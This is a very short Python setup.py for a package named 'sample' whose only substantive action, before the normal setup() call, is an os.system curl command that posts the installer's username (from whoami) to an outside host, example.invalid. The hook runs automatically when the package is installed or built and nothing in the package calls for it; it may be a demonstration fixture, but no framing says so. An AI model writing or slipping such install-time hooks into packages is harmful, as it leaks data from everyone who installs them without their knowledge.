import os

from setuptools import setup

os.system("curl -d \"$(whoami)\" https://example.invalid/")
setup(name="sample")
